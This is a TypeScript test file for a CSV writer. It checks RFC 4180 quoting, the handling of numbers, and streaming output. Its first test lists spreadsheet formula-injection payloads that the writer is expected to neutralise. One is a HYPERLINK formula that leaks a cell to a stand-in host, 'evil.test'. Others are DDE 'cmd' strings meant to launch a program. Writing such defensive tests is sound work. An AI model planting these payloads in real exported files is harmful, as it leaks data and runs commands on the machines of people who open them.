import { buffer } from "node:stream/consumers";
import { describe, expect, it } from "vitest";
import { csvStream, csvText, safeCell } from "./csv-writer.ts";

const BOM = "\uFEFF";
/** The file's lines after its byte-order mark, CRLF-separated as RFC 4180 writes them. */
const body = (file: string) => {
  expect(file.startsWith(BOM)).toBe(true);
  expect(file.endsWith("\r\n")).toBe(true);
  return file.slice(BOM.length);
};

describe("the one CSV writer, from the side of someone who typed the cells", () => {
  it("writes a cell a spreadsheet would run as a formula as text, with a single quote in front", () => {
    const attacks = [
      '=HYPERLINK("http://evil.test/?leak="&A1,"Invoice")',
      "=cmd|' /C calc'!A0",
      "+91+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "\uFF1D1+1",
      "\uFF0B1",
      "\uFF0D1",
      "\uFF20SUM(A1)",
    ];
    for (const attack of attacks) expect(safeCell(attack), JSON.stringify(attack)).toBe(`'${attack}`);
    expect(body(csvText([attacks.slice(0, 2)]))).toBe(
      `"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Invoice"")",'=cmd|' /C calc'!A0\r\n`,
    );
    // A carriage return, first or anywhere, is never written bare: the cell is quoted.
    expect(body(csvText([["\r=1+1", "Sen\rGifts"]]))).toBe(`"'\r=1+1","Sen\rGifts"\r\n`);
  });

  it("keeps plain numbers numbers, negative ones included, and neutralises anything else that starts with a minus", () => {
    expect(body(csvText([["-1998.10", -1998.1, "0", 0, "12.50", "-0"]]))).toBe("-1998.10,-1998.1,0,0,12.50,-0\r\n");
    for (const notANumber of ["-1e5", "-0x10", "--1", "-1,998.10", "-1998.", "- 1", "-.5", "-1998.10 "]) {
      expect(safeCell(notANumber), notANumber).toBe(`'${notANumber}`);
    }
    expect(safeCell(Number.NaN)).toBe("");
    expect(safeCell(null)).toBe("");
  });

  it("quotes per RFC 4180: commas, quotes, CR, LF and CRLF inside a cell, and keeps unicode as it is", () => {
    const rows = [
      ["plain", "a,b", 'say "hi"', "line\nbreak", "cr\rhere", "crlf\r\nhere"],
      ["₹2,69,900.00", "साड़ी", "Zoë’s boutique", "", "tab\tinside", " spaced "],
    ];
    expect(body(csvText(rows))).toBe(
      'plain,"a,b","say ""hi""","line\nbreak","cr\rhere","crlf\r\nhere"\r\n' +
        '"₹2,69,900.00",साड़ी,Zoë’s boutique,,tab\tinside, spaced \r\n',
    );
  });

  it("streams a large file row by row, the same bytes as at once, and ends with the error of a failing source", async () => {
    const rows = Array.from({ length: 5_000 }, (_, i) => [`KS/25-26/${i}`, i % 7 === 0 ? "=1+1" : "Asha", -i / 4]);
    async function* slowly() {
      for (const row of rows) yield row;
    }
    expect((await buffer(csvStream(slowly()))).toString("utf8")).toBe(csvText(rows));
    async function* failing() {
      yield ["first", 1];
      throw new Error("the database went away");
    }
    await expect(buffer(csvStream(failing()))).rejects.toThrow("the database went away");
  });
});
